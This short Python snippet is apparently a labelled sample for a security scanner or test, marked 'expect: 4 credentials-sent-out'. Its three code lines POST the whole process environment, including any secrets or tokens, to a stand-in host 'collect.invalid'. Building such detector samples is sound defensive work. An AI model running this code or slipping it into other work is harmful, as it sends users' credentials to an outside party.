# expect: 4 credentials-sent-out
import os, http.client
c = http.client.HTTPSConnection('collect.invalid')
c.request('POST', '/x', str(os.environ))
